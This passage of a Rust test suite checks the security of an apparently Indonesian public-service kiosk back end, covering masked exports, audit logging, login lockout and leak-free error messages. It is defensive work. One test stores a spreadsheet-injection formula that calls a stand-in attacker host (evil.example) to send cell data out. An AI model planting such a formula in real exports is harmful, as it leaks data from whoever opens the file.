    let cells: Vec<&str> = row.split("<td class=\"num\">").skip(1).map(|c| c.split("</td>").next().unwrap()).collect();
    assert_eq!(
        cells[..4],
        ["<strong class=\"bad\">2.0000</strong>", "4.0000", "<strong class=\"bad\">3.0000</strong>", "4.0000"],
        "{row}"
    );

    // A supervisor of another kelurahan sees neither these staff nor
    // their trainings; the kelurahan's own supervisor sees both.
    for (username, kelurahan) in [("lurah-pb", "12.71.01.1001"), ("lurah-pusat", "12.71.01.1002")] {
        setup::add_user(
            &setup::Place::local(&f.state.config.data),
            NewUser {
                username: username.parse().unwrap(),
                password: "rahasia-lurah-1".into(),
                role: Role::Supervisor,
                agency: None,
                region: Vec::new(),
                kelurahan: Some(kelurahan.parse().unwrap()),
            },
        )
        .unwrap();
    }
    let (status, _, own) = page(format!("__Host-loket_session={}", web_session_for(&f, "lurah-pb"))).await;
    assert_eq!(status, StatusCode::OK);
    assert!(own.contains(&format!("<tr data-nip=\"{weak}\"><td>2026-06-01")), "own staff's training");
    assert!(own.contains(&format!("data-nip=\"{strong}\"")), "own staff");
    assert!(!own.contains("Catat pelatihan"), "recording is the admin's");
    let (status, _, other) = page(format!("__Host-loket_session={}", web_session_for(&f, "lurah-pusat"))).await;
    assert_eq!(status, StatusCode::OK);
    for nip in [weak, strong] {
        assert!(!other.contains(nip), "another office's staff member {nip} is shown");
    }
    assert!(!other.contains("Penanganan pengaduan</td>"), "another office's training is shown");
}

/// Issue 14, item 10: the before/after view judges scores only from five
/// ratings, like the needs list; figures are cut to the threshold's
/// precision, never rounded up to it.
#[test]
fn staff_figures_keep_the_minimum_and_the_thresholds_precision() {
    use crate::web::pages::staff_figures::{nrr_text, percent_text};
    assert_eq!(nrr_text(3.064_39), "3.0643", "below B never reads as 3.0644");
    assert_eq!(nrr_text(3.0644), "3.0644");
    assert_eq!(nrr_text(30_644.0 / 10_000.0), "3.0644");
    assert_eq!(nrr_text(2.0), "2.0000");
    assert_eq!(percent_text(79.96), "79%", "below 80 % never reads as 80 %");
    assert_eq!(percent_text(80.0), "80%");
    assert_eq!(percent_text(100.0), "100%");
    let four = crate::ops::reports::StaffWork { rated: 4, u6: 4, u7: 4, finished: 4, handled: 4, ..Default::default() };
    let cell = crate::web::pages::staff_figures::nrr_cell(crate::web::pages::Lang::Id, four.nrr(four.u6), four.rated)
        .into_string();
    assert!(cell.contains('—') && !cell.contains("1.0000"), "four ratings are not judged: {cell}");
    let sla = crate::web::pages::staff_figures::sla_cell(crate::web::pages::Lang::Id, &four).into_string();
    assert!(sla.contains('—') && !sla.contains('%'), "four finished are not judged: {sla}");
    let five = crate::ops::reports::StaffWork {
        rated: 5,
        u6: 5,
        u7: 20,
        finished: 5,
        within_sla: 3,
        handled: 5,
        ..Default::default()
    };
    assert!(
        crate::web::pages::staff_figures::nrr_cell(crate::web::pages::Lang::Id, five.nrr(five.u6), five.rated)
            .into_string()
            .contains("bad")
    );
    assert_eq!(
        crate::web::pages::staff_figures::sla_cell(crate::web::pages::Lang::Id, &five).into_string(),
        "<strong class=\"bad\">60%</strong>"
    );
}

/// The cookies and CSRF token a browser holds after loading a page with a
/// form: `(Cookie header, token)`.
fn csrf_of(session: &str, set_cookies: &[String], html: &str) -> (String, String) {
    let csrf_cookie =
        set_cookies.iter().find(|c| c.starts_with("__Host-loket_csrf=")).unwrap().split(';').next().unwrap().to_owned();
    let marker = r#"name="csrf" value=""#;
    let at = html.find(marker).unwrap() + marker.len();
    (format!("{session}; {csrf_cookie}"), html[at..at + html[at..].find('"').unwrap()].to_owned())
}

/// Posts a form as a browser would.
async fn post_form(f: &Fixture, cookies: &str, uri: &str, body: String) -> axum::response::Response {
    let req = Request::builder()
        .method("POST")
        .uri(uri)
        .header(header::COOKIE, cookies)
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .body(Body::from(body))
        .unwrap();
    f.app.clone().oneshot(req).await.unwrap()
}

/// Downloads a table through a web session; `(status, content type, body)`.
async fn download(f: &Fixture, uri: &str) -> (StatusCode, String, Vec<u8>) {
    let web_token = web_session(f);
    let req = Request::builder()
        .uri(uri)
        .header(header::COOKIE, format!("__Host-loket_session={web_token}"))
        .body(Body::empty())
        .unwrap();
    let resp = f.app.clone().oneshot(req).await.unwrap();
    let status = resp.status();
    let ct = resp.headers().get(header::CONTENT_TYPE).map(|v| v.to_str().unwrap().to_owned()).unwrap_or_default();
    (status, ct, axum::body::to_bytes(resp.into_body(), 1 << 24).await.unwrap().to_vec())
}

/// The rows of an XLSX's first sheet, as text.
fn xlsx_rows(bytes: Vec<u8>) -> Vec<Vec<String>> {
    use calamine::{Reader, Xlsx};
    let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes)).expect("a valid XLSX");
    let name = book.sheet_names()[0].clone();
    let range = book.worksheet_range(&name).expect("the sheet");
    // A date cell reads back as its serial (days since 1899-12-30); shown
    // here as the CSV writes it, so both can be compared.
    let cell = |c: &calamine::Data| match c {
        calamine::Data::DateTime(d) => {
            let secs = (d.as_f64() * 86_400.0).round() as i64;
            let base = time::macros::datetime!(1899-12-30 00:00);
            let t = base + time::Duration::seconds(secs);
            format!(
                "{:04}-{:02}-{:02} {:02}:{:02}:{:02}",
                t.year(),
                u8::from(t.month()),
                t.day(),
                t.hour(),
                t.minute(),
                t.second()
            )
        }
        other => other.to_string(),
    };
    range.rows().map(|r| r.iter().map(cell).collect()).collect()
}

#[tokio::test]
async fn exports_as_csv_and_xlsx_agree_and_mask_personal_data() {
    let f = fixture();
    f.state.db.write(|tx| crate::central::ensure_catalog(tx, &f.state.writer)).unwrap();
    let nik = "1271010101900003";
    push_request(&f.state, nik);
    // Requests: the NIK and the name only masked, in both formats.
    let (status, ct, csv_bytes) = download(&f, "/admin/permohonan.csv?periode=2025-11").await;
    assert_eq!((status, ct.as_str()), (StatusCode::OK, "text/csv; charset=utf-8"));
    let csv_text = String::from_utf8(csv_bytes).unwrap();
    assert!(csv_text.contains("127101••••••0003") && csv_text.contains("S*** A***"), "{csv_text}");
    // Filed 2025-11-28 03:20 UTC: local time, the zone in the column name.
    assert!(csv_text.lines().next().unwrap().contains(",diajukan_wib,selesai_wib,"), "{csv_text}");
    assert!(csv_text.contains(",2025-11-28 10:20:00,"), "{csv_text}");
    assert!(!csv_text.contains(nik) && !csv_text.contains("Siti Aminah"), "{csv_text}");
    let (status, ct, xlsx) = download(&f, "/admin/permohonan.xlsx?periode=2025-11").await;
    assert_eq!(status, StatusCode::OK);
    assert!(ct.contains("spreadsheetml"), "{ct}");
    let rows = xlsx_rows(xlsx);
    let csv_rows: Vec<Vec<String>> = csv::Reader::from_reader(csv_text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect();
    assert_eq!(rows.len(), csv_rows.len() + 1, "header plus the same rows");
    assert_eq!(rows[1], csv_rows[0], "the XLSX holds what the CSV holds");
    assert!(rows.iter().flatten().all(|c| !c.contains(nik)));

    // IKM: the same figures in both formats.
    let (_, _, csv_bytes) = download(&f, "/admin/ikm.csv?periode=2025&per=kelurahan").await;
    let (_, _, xlsx) = download(&f, "/admin/ikm.xlsx?periode=2025&per=kelurahan").await;
    let csv_rows: Vec<Vec<String>> = csv::Reader::from_reader(&csv_bytes[..])
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect();
    let rows = xlsx_rows(xlsx);
    assert_eq!(rows.len(), csv_rows.len() + 1);
    for (x, c) in rows[1..].iter().zip(&csv_rows) {
        for (xv, cv) in x.iter().zip(c) {
            match (xv.parse::<f64>(), cv.parse::<f64>()) {
                (Ok(a), Ok(b)) => assert!((a - b).abs() < 0.001, "{xv} vs {cv}"),
                _ => assert_eq!(xv, cv),
            }
        }
    }
}

/// Full personal data leaves only by a POST with a reason, for roles that
/// may see it, each request in the audit log before the file is sent.
#[tokio::test]
async fn a_full_export_needs_a_reason_and_is_audited_per_request() {
    let f = fixture();
    f.state.db.write(|tx| crate::central::ensure_catalog(tx, &f.state.writer)).unwrap();
    let niks = ["1271010101900003", "1271014101900004"];
    for (n, nik) in (1..).zip(niks) {
        push_request_n(&f.state, nik, n);
    }
    let session = format!("__Host-loket_session={}", web_session(&f));
    let req = Request::builder().uri("/admin/permohonan").header(header::COOKIE, &session).body(Body::empty()).unwrap();
    let resp = f.app.clone().oneshot(req).await.unwrap();
    let set: Vec<String> =
        resp.headers().get_all(header::SET_COOKIE).iter().map(|v| v.to_str().unwrap().to_owned()).collect();
    let html = String::from_utf8(axum::body::to_bytes(resp.into_body(), 1 << 22).await.unwrap().to_vec()).unwrap();
    assert!(html.contains("id=\"full-download\""), "the form is offered to an admin");
    let (cookies, csrf) = csrf_of(&session, &set, &html);
    let audited = || {
        f.state
            .db
            .sqlite()
            .unwrap()
            .raw_read(|c| {
                Ok::<i64, crate::store::StoreError>(c.query_row(
                    "SELECT count(*) FROM audit_log WHERE action = 'export_personal'",
                    [],
                    |r| r.get(0),
                )?)
            })
            .unwrap()
    };

    // Refused: no reason, a forged token, another format.
    let resp = post_form(&f, &cookies, "/admin/permohonan/unduh-lengkap", format!("csrf={csrf}&periode=2025-11")).await;
    assert_eq!(resp.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let body = format!("csrf=x{csrf}&periode=2025-11&alasan=verifikasi+KK");
    let resp = post_form(&f, &cookies, "/admin/permohonan/unduh-lengkap", body).await;
    assert_eq!(resp.status(), StatusCode::FORBIDDEN);
    let body = format!("csrf={csrf}&periode=2025-11&alasan=verifikasi+KK&format=pdf");
    assert_eq!(
        post_form(&f, &cookies, "/admin/permohonan/unduh-lengkap", body).await.status(),
        StatusCode::BAD_REQUEST
    );
    assert_eq!(audited(), 0, "nothing refused is audited");

    let body = format!("csrf={csrf}&periode=2025-11&alasan=verifikasi+KK&format=xlsx");
    let resp = post_form(&f, &cookies, "/admin/permohonan/unduh-lengkap", body).await;
    assert_eq!(resp.status(), StatusCode::OK);
    let rows = xlsx_rows(axum::body::to_bytes(resp.into_body(), 1 << 24).await.unwrap().to_vec());
    assert_eq!(rows.len(), 3, "header and both requests: {rows:?}");
    assert_eq!(rows[0].last().map(String::as_str), Some("telepon"));
    let nik_col = rows[0].iter().position(|h| h == "nik").unwrap();
    let mut got: Vec<&str> = rows[1..].iter().map(|r| r[nik_col].as_str()).collect();
    got.sort_unstable();
    assert_eq!(got, niks, "full NIKs, as text");
    assert_eq!(audited(), 2, "one audit row per request");
}

#[tokio::test]
async fn reproject_fills_columns_added_by_an_upgrade() {
    let f = fixture();
    f.state.db.write(|tx| crate::central::ensure_catalog(tx, &f.state.writer)).unwrap();
    let nik = "1271010101900003";
    let id = push_request(&f.state, nik);
    // As a store from before the upgrade: the new columns are empty.
    f.state
        .db
        .sqlite()
        .unwrap()
        .raw_write(|tx| -> Result<usize, crate::store::StoreError> {
            Ok(tx.execute("UPDATE requests SET nik_masked = NULL, name_masked = NULL WHERE doc_id = ?1", [&id])?)
        })
        .unwrap();
    let (done, skipped) = crate::store::projection::reproject_requests(&f.state.db, 1000, |_| {}).unwrap();
    assert_eq!((done, skipped), (1, 0));
    let masked: (Option<String>, Option<String>) = f
        .state
        .db
        .sqlite()
        .unwrap()
        .raw_read(|c| {
            Ok::<_, crate::store::StoreError>(c.query_row(
                "SELECT nik_masked, name_masked FROM requests WHERE doc_id = ?1",
                [&id],
                |r| Ok((r.get(0)?, r.get(1)?)),
            )?)
        })
        .unwrap();
    // Kept short (schema version 22); exports show them masked as ever.
    assert_eq!(masked, (Some("1271010003".into()), Some("SA".into())));
}

// ------------------------------------------------------------------ issue 12: hardening

/// A request as it arrives over a connection from `addr`.
async fn call_from(
    app: &Router,
    addr: &str,
    method: &str,
    uri: &str,
    token: Option<&str>,
    body: Option<Value>,
) -> (StatusCode, Value) {
    let peer: SocketAddr = format!("{addr}:40000").parse().unwrap();
    let mut req = Request::builder().method(method).uri(uri).extension(ConnectInfo(peer));
    if let Some(t) = token {
        req = req.header(header::AUTHORIZATION, format!("Bearer {t}"));
    }
    let req = match body {
        Some(b) => req.header(header::CONTENT_TYPE, "application/json").body(Body::from(b.to_string())),
        None => req.body(Body::empty()),
    }
    .unwrap();
    let resp = app.clone().oneshot(req).await.unwrap();
    let status = resp.status();
    let bytes = axum::body::to_bytes(resp.into_body(), 1 << 20).await.unwrap();
    (status, serde_json::from_slice(&bytes).unwrap_or_else(|_| Value::String(String::from_utf8_lossy(&bytes).into())))
}

async fn login_from(app: &Router, addr: &str, username: &str, password: &str) -> (StatusCode, Value) {
    let body = json!({ "username": username, "password": password });
    call_from(app, addr, "POST", "/api/login", None, Some(body)).await
}

/// Regression, issue 12 item 11: failures lock out one user at one
/// address. Before, five wrong passwords from anywhere locked the user out
/// everywhere, and locked everyone behind that address (an office's NAT).
#[tokio::test]
async fn wrong_passwords_lock_out_one_user_at_one_address_only() {
    let f = fixture();
    for _ in 0..f.state.config.login_failures_max {
        let (status, body) = login_from(&f.app, "10.1.1.1", "admin", "salah-sandi-123").await;
        assert_eq!((status, code(&body)), (StatusCode::UNAUTHORIZED, "invalid_credentials"));
    }
    let (status, body) = login_from(&f.app, "10.1.1.1", "admin", ADMIN_PASSWORD).await;
    assert_eq!((status, code(&body)), (StatusCode::TOO_MANY_REQUESTS, "too_many_attempts"), "that pair is locked");
    let (status, body) = login_from(&f.app, "10.2.2.2", "admin", ADMIN_PASSWORD).await;
    assert_eq!(status, StatusCode::OK, "the real admin elsewhere: {body}");
    let (status, body) = login_from(&f.app, "10.1.1.1", "pengawas", "rahasia-pengawas").await;
    assert_eq!(status, StatusCode::OK, "a colleague behind the same address: {body}");
}

/// Regression, issue 12 item 11: many failures for one user from many
/// addresses slow every attempt for that user down (one per slow-down
/// interval, for every address together), except from an address the user
/// logged in from before; other users are not slowed.
#[tokio::test]
async fn failures_from_many_addresses_slow_a_user_down_except_where_they_logged_in_before() {
    let f = fixture();
    let (status, _) = login_from(&f.app, "10.9.9.9", "admin", ADMIN_PASSWORD).await;
    assert_eq!(status, StatusCode::OK, "the admin's own office");
    let threshold = f.state.config.login_user_failures_max;
    for i in 0..threshold {
        let (status, body) = login_from(&f.app, &format!("10.3.0.{}", i + 1), "admin", "salah-sandi-123").await;
        assert_eq!((status, code(&body)), (StatusCode::UNAUTHORIZED, "invalid_credentials"), "attempt {i}");
    }
    // From a new address: one attempt per interval for everyone together.
    let (status, body) = login_from(&f.app, "10.4.0.1", "admin", "salah-sandi-456").await;
    assert_eq!((status, code(&body)), (StatusCode::UNAUTHORIZED, "invalid_credentials"), "the interval's attempt");
    let (status, body) = login_from(&f.app, "10.4.0.2", "admin", ADMIN_PASSWORD).await;
    assert_eq!((status, code(&body)), (StatusCode::TOO_MANY_REQUESTS, "too_many_attempts"), "slowed down");
    // Where the admin logged in before, no wait; other users are not slowed.
    let (status, body) = login_from(&f.app, "10.9.9.9", "admin", ADMIN_PASSWORD).await;
    assert_eq!(status, StatusCode::OK, "from a known address: {body}");
    let (status, body) = login_from(&f.app, "10.4.0.3", "pengawas", "rahasia-pengawas").await;
    assert_eq!(status, StatusCode::OK, "another user: {body}");
}

/// Regression, issue 12 item 11: `/metrics` was open to anyone.
#[tokio::test]
async fn metrics_need_an_admin_or_the_metrics_token() {
    let f = fixture();
    let (status, body) = call(&f.app, "GET", "/metrics", None, None).await;
    assert_eq!((status, code(&body)), (StatusCode::UNAUTHORIZED, "unauthorized"));
    let (_, body) = login(&f.app, "pengawas", "rahasia-pengawas").await;
    let (status, body) = call(&f.app, "GET", "/metrics", body["token"].as_str(), None).await;
    assert_eq!((status, code(&body)), (StatusCode::FORBIDDEN, "forbidden"), "a supervisor");
    let admin = admin_token(&f.app).await;
    let (status, body) = call(&f.app, "GET", "/metrics", Some(&admin), None).await;
    assert_eq!(status, StatusCode::OK);
    assert!(body.as_str().unwrap().contains("loket_kiosks_enrolled"), "{body}");

    // With `metrics_token_file`: that token reads them, another does not.
    let token = "ab".repeat(32);
    let mut state = f.state.clone();
    state.metrics_token_hash = Some(crate::auth::token_hash(&token).into());
    let app = router(state);
    let (status, body) = call(&app, "GET", "/metrics", Some(&token), None).await;
    assert_eq!(status, StatusCode::OK);
    assert!(body.as_str().unwrap().contains("loket_logins_total"), "{body}");
    let (status, body) = call(&app, "GET", "/metrics", Some(&"cd".repeat(32)), None).await;
    assert_eq!((status, code(&body)), (StatusCode::UNAUTHORIZED, "unauthorized"));
}

/// Regression, issue 12 item 11: an admin disables a user; the user's
/// sessions (API and web) stop working at their next request, the right
/// password is refused, and the audit log says who did it, to whom and
/// why. Enabling lets the user log in again (the old sessions stay gone).
#[tokio::test]
async fn a_disabled_user_is_shut_out_at_once_and_it_is_audited() {
    let f = fixture();
    let admin = admin_token(&f.app).await;
    let (_, body) = login(&f.app, "pengawas", "rahasia-pengawas").await;
    let token = body["token"].as_str().unwrap().to_owned();
    let web = web_session_for(&f, "pengawas");
    let web_get = |cookie: String| {
        let app = f.app.clone();
        async move {
            let req = Request::get("/admin/permohonan").header(header::COOKIE, cookie).body(Body::empty()).unwrap();
            app.oneshot(req).await.unwrap().status()
        }
    };
    let cookie = format!("__Host-loket_session={web}");
    assert_eq!(call(&f.app, "GET", "/api/admin/requests", Some(&token), None).await.0, StatusCode::OK);
    assert_eq!(web_get(cookie.clone()).await, StatusCode::OK);

    let disable = json!({ "reason": "pindah tugas" });
    let (status, body) =
        call(&f.app, "POST", "/api/admin/users/pengawas/disable", Some(&admin), Some(disable.clone())).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let (status, body) = call(&f.app, "GET", "/api/admin/requests", Some(&token), None).await;
    assert_eq!((status, code(&body)), (StatusCode::UNAUTHORIZED, "unauthorized"), "the API session ended");
    assert_eq!(web_get(cookie).await, StatusCode::SEE_OTHER, "the web session ended");
    let (status, body) = login(&f.app, "pengawas", "rahasia-pengawas").await;
    assert_eq!((status, code(&body)), (StatusCode::FORBIDDEN, "account_disabled"));
    let (status, body) = login(&f.app, "pengawas", "salah-sandi-123").await;
    assert_eq!((status, code(&body)), (StatusCode::UNAUTHORIZED, "invalid_credentials"), "says nothing more");

    let (_, body) = call(&f.app, "GET", "/api/admin/users", Some(&admin), None).await;
    let listed = body["items"].as_array().unwrap().iter().find(|u| u["username"] == "pengawas").cloned();
    assert_eq!(listed.map(|u| u["disabled"].clone()), Some(json!(true)), "{body}");
    let (_, body) = call(&f.app, "GET", "/api/admin/audit", Some(&admin), None).await;
    let row = &body["items"][0];
    assert_eq!(
        (&row["action"], &row["username"], &row["subject"], &row["reason"]),
        (&json!("disable_user"), &json!("admin"), &json!("pengawas"), &json!("pindah tugas")),
        "{body}"
    );

    // No admin can shut themself out; an unknown user is 404; a reason is needed.
    let (status, body) = call(&f.app, "POST", "/api/admin/users/admin/disable", Some(&admin), Some(disable)).await;
    assert_eq!((status, code(&body)), (StatusCode::CONFLICT, "cannot_disable_self"));
    let (status, body) =
        call(&f.app, "POST", "/api/admin/users/nobody/disable", Some(&admin), Some(json!({ "reason": "tidak ada" })))
            .await;
    assert_eq!((status, code(&body)), (StatusCode::NOT_FOUND, "not_found"));
    let (status, body) = call(&f.app, "POST", "/api/admin/users/pengawas/enable", Some(&admin), Some(json!({}))).await;
    assert_eq!((status, code(&body)), (StatusCode::UNPROCESSABLE_ENTITY, "reason_required"));

    let enable = json!({ "reason": "kembali bertugas" });
    let (status, body) = call(&f.app, "POST", "/api/admin/users/pengawas/enable", Some(&admin), Some(enable)).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let (status, _) = call(&f.app, "GET", "/api/admin/requests", Some(&token), None).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED, "the old session stays ended");
    let (status, body) = login(&f.app, "pengawas", "rahasia-pengawas").await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let (_, body) = call(&f.app, "GET", "/api/admin/audit", Some(&admin), None).await;
    assert_eq!(
        (&body["items"][0]["action"], &body["items"][0]["subject"]),
        (&json!("enable_user"), &json!("pengawas"))
    );
}

/// Regression, issue 12 item 9: refusals name the field, never the value
/// (serde's messages quoted wrong-typed values and unknown keys).
#[tokio::test]
async fn refusals_name_the_field_never_the_value() {
    let f = fixture();
    let admin = admin_token(&f.app).await;
    let nik = "1271010101900003";
    let secret = "Rahasia-Bocor-77";
    let leaks = |body: &Value| {
        let text = body.to_string().to_lowercase();
        text.contains(nik) || text.contains(&secret.to_lowercase())
    };
    let cases: Vec<(&str, &str, Value)> = vec![
        ("/api/login", "password", json!({ "username": "admin", "password": 1271010101900003u64 })),
        ("/api/login", "username", json!({ "username": { secret: nik }, "password": "x" })),
        ("/api/login", "", json!({ "username": "admin", "password": "x", secret: 1 })),
        ("/api/login", "", json!({ "username": "admin", "password": "x", nik: 1 })),
        ("/api/enroll", "code", json!({ "code": 1271010101900003u64, "actor": "x", "version": "1" })),
    ];
    for (uri, field, body) in cases {
        let (status, answer) = call(&f.app, "POST", uri, None, Some(body.clone())).await;
        assert_eq!((status, code(&answer)), (StatusCode::UNPROCESSABLE_ENTITY, "invalid_body"), "{body}");
        assert!(!leaks(&answer), "{body} was echoed: {answer}");
        assert!(answer["error"]["message"].as_str().unwrap().contains(field), "names {field:?}: {answer}");
    }
    // A staff role that is a secret, a password of the wrong type.
    let staff = json!({ "name": "Rina", "role": secret, "password": nik.parse::<u64>().unwrap() });
    let (status, answer) =
        call(&f.app, "PUT", "/api/admin/rosters/12.71.01.1001/staff/198503122010011002", Some(&admin), Some(staff))
            .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{answer}");
    assert!(!leaks(&answer), "echoed: {answer}");
    // Query strings: an unknown key, a wrong-typed value.
    for uri in [format!("/api/admin/audit?{nik}=1"), format!("/api/admin/audit?limit={secret}")] {
        let (status, answer) = call(&f.app, "GET", &uri, Some(&admin), None).await;
        assert_eq!((status, code(&answer)), (StatusCode::BAD_REQUEST, "invalid_query"), "{uri}");
        assert!(!leaks(&answer), "{uri} was echoed: {answer}");
    }
    // The web login with the password typed where the username goes.
    let page = f.app.clone().oneshot(Request::get("/masuk").body(Body::empty()).unwrap()).await.unwrap();
    let set: Vec<String> =
        page.headers().get_all(header::SET_COOKIE).iter().map(|v| v.to_str().unwrap().to_owned()).collect();
    let html = String::from_utf8(axum::body::to_bytes(page.into_body(), 1 << 20).await.unwrap().to_vec()).unwrap();
    let (cookies, csrf) = csrf_of("x=y", &set, &html);
    let form = format!("csrf={csrf}&username={secret}&password=salah-sandi-123");
    let resp = post_form(&f, &cookies, "/masuk", form).await;
    assert_eq!(resp.status(), StatusCode::UNAUTHORIZED);
    let html = String::from_utf8(axum::body::to_bytes(resp.into_body(), 1 << 20).await.unwrap().to_vec()).unwrap();
    assert!(!html.to_lowercase().contains(&secret.to_lowercase()), "the login page echoed what was typed");
}

/// A web form that cannot be read is answered with an error page (the
/// code in small print), never with axum's text, which can quote input.
#[tokio::test]
async fn unreadable_forms_are_error_pages() {
    let f = fixture();
    let page = f.app.clone().oneshot(Request::get("/masuk").body(Body::empty()).unwrap()).await.unwrap();
    let set: Vec<String> =
        page.headers().get_all(header::SET_COOKIE).iter().map(|v| v.to_str().unwrap().to_owned()).collect();
    let html = String::from_utf8(axum::body::to_bytes(page.into_body(), 1 << 20).await.unwrap().to_vec()).unwrap();
    let (cookies, csrf) = csrf_of("x=y", &set, &html);
    let text = |resp: axum::response::Response| async move {
        String::from_utf8(axum::body::to_bytes(resp.into_body(), 1 << 20).await.unwrap().to_vec()).unwrap()
    };
    // A field given twice does not fit the form.
    let resp = post_form(&f, &cookies, "/masuk", format!("csrf={csrf}&username=a&username=rahasia-1234")).await;
    assert_eq!(resp.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let html = text(resp).await;
    assert!(html.starts_with("<!DOCTYPE html>") && html.contains("invalid_form"), "{html}");
    assert!(!html.contains("rahasia") && !html.contains("deserialize"), "{html}");
    // Not a form at all.
    let req = Request::post("/masuk").header(header::COOKIE, &cookies).body(Body::from("{}")).unwrap();
    let resp = f.app.clone().oneshot(req).await.unwrap();
    assert_eq!(resp.status(), StatusCode::UNSUPPORTED_MEDIA_TYPE);
    assert!(text(resp).await.contains("invalid_form"));
}

/// Regression, issue 12 item 7: a cell that a spreadsheet would read as a
/// formula (`= + - @`, tab, CR first) is written as text: a `'` before it
/// in CSV, a string cell in XLSX. Numbers, negative ones too, stay numbers.
#[tokio::test]
async fn exports_never_hand_a_spreadsheet_a_formula() {
    let f = fixture();
    f.state.db.write(|tx| crate::central::ensure_catalog(tx, &f.state.writer)).unwrap();
    let id = push_request(&f.state, "1271010101900003");
    // A kiosk-supplied agency as it might have been stored by an older
    // server (the agency is a free-text field of a kiosk's event).
    let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"klik")"#;
    f.state
        .db
        .sqlite()
        .unwrap()
        .raw_write(|tx| {
            tx.execute("UPDATE requests SET agency = ?1 WHERE doc_id = ?2", rusqlite::params![formula, id])
                .map_err(crate::store::StoreError::from)
        })
        .unwrap();
    let (status, _, csv_bytes) = download(&f, "/admin/permohonan.csv?periode=2025-11").await;
    assert_eq!(status, StatusCode::OK);
    let rows: Vec<Vec<String>> = csv::Reader::from_reader(&csv_bytes[..])
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect();
    assert!(rows[0].contains(&format!("'{formula}")), "{rows:?}");
    assert!(rows.iter().flatten().all(|c| !c.starts_with(['=', '+', '-', '@', '\t', '\r'])), "{rows:?}");
    let (_, _, xlsx) = download(&f, "/admin/permohonan.xlsx?periode=2025-11").await;
    assert!(xlsx_rows(xlsx.clone())[1].contains(&formula.to_owned()), "the XLSX keeps the text as a string cell");
    use calamine::{Reader, Xlsx};
    let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(xlsx)).unwrap();
    let name = book.sheet_names()[0].clone();
    let formulas = book.worksheet_formula(&name).unwrap();
    assert!(formulas.cells().all(|(_, _, f)| f.is_empty()), "a formula in the sheet");
}

/// Issue 12 item 11, the page: an admin disables a user from the users
/// page (CSRF, a reason); the user's session ends at once; it is audited.
#[tokio::test]
async fn the_users_page_disables_an_account() {
    let f = fixture();
    let victim = web_session_for(&f, "pengawas");
    let session = format!("__Host-loket_session={}", web_session(&f));
    let get = |cookie: String, uri: &'static str| {
        let app = f.app.clone();
        async move {
            let resp = app
                .oneshot(Request::get(uri).header(header::COOKIE, cookie).body(Body::empty()).unwrap())
                .await
                .unwrap();
            let status = resp.status();
            let set: Vec<String> =
                resp.headers().get_all(header::SET_COOKIE).iter().map(|v| v.to_str().unwrap().to_owned()).collect();
            let html =
                String::from_utf8(axum::body::to_bytes(resp.into_body(), 1 << 20).await.unwrap().to_vec()).unwrap();
            (status, set, html)
        }
    };
    let (status, _, _) = get(format!("__Host-loket_session={victim}"), "/admin/pengguna").await;
    assert_eq!(status, StatusCode::FORBIDDEN, "a supervisor");
    let (status, set, html) = get(session.clone(), "/admin/pengguna").await;
    assert_eq!(status, StatusCode::OK);
    assert!(html.contains(r#"data-user="pengawas""#), "{html}");
    let (cookies, csrf) = csrf_of(&session, &set, &html);
    let resp =
        post_form(&f, &cookies, "/admin/pengguna/pengawas", format!("csrf={csrf}&aksi=nonaktifkan&alasan=x")).await;
    assert_eq!(resp.status(), StatusCode::UNPROCESSABLE_ENTITY, "a reason of 5 characters at least");
    let form = format!("csrf={csrf}&aksi=nonaktifkan&alasan=pindah+tugas");
    let resp = post_form(&f, &cookies, "/admin/pengguna/pengawas", form.clone()).await;
    assert_eq!(resp.status(), StatusCode::SEE_OTHER);
    let (status, _, _) = get(format!("__Host-loket_session={victim}"), "/admin/permohonan").await;
    assert_eq!(status, StatusCode::SEE_OTHER, "the session ended: back to the login page");
    let resp = post_form(&f, &cookies, "/admin/pengguna/admin", form.replace("pengawas", "admin")).await;
    assert_eq!(resp.status(), StatusCode::CONFLICT, "not oneself");
    let resp = post_form(&f, &session, "/admin/pengguna/pengawas", form).await;
    assert_eq!(resp.status(), StatusCode::FORBIDDEN, "no CSRF cookie");
    let subject: String = f
        .state
        .db
        .sqlite()
        .unwrap()
        .raw_read(|c| {
            c.query_row("SELECT subject FROM audit_log WHERE action = 'disable_user'", [], |r| r.get(0))
                .map_err(crate::store::StoreError::from)
        })
        .unwrap();
    assert_eq!(subject, "pengawas");
}

/// Issue 14 item 9, the central side: the publish page (admins only, a
/// CSRF-checked form that redirects) writes each office's IKM for the
/// period into the catalog, graded by the printed edges (88.30 is B, 88.31
/// A), and lists what is in force; an office rated only outside the period
/// is left out.
#[tokio::test]
async fn the_publish_page_puts_each_offices_ikm_in_the_catalog() {
    let f = fixture();
    f.state.db.write(|tx| crate::central::ensure_catalog(tx, &f.state.writer)).unwrap();
    let wib = time::UtcOffset::from_hms(7, 0, 0).unwrap();
    let q3 = (time::macros::datetime!(2026-07-15 10:00).assume_offset(wib).unix_timestamp()) * 1000;
    // (kelurahan, respondents, total points, rating time): 31789 and 31790
    // points from 1000 respondents are 88.30 and 88.31 exactly (x 25 / 9000).
    let offices = [
        ("12.71.03.1005", 1000u64, 31_789u64, q3),
        ("12.71.03.1006", 1000, 31_790, q3),
        ("12.71.01.1001", 3, 108, q3 - 120 * 86_400_000),
    ];
    f.state
        .db
        .sqlite()
        .unwrap()
        .raw_write(|tx| -> Result<(), crate::store::StoreError> {
            let mut n = 0;
            for (kel, respondents, total, at) in offices {
                for i in 0..respondents {
                    n += 1;
                    let id = format!("doc-{n:06}");
                    tx.execute(
                        "INSERT INTO requests (doc_id, ticket, kelurahan, kiosk, service, status, conflict,
                                               agency, rated, created_at_ms, updated_at_ms)
                         VALUES (?1, ?2, ?3, 'K001', 'SKD', 'completed', 0, NULL, 1, ?4, ?4)",
                        rusqlite::params![id, format!("K001-0715-{n:03}"), kel, at],
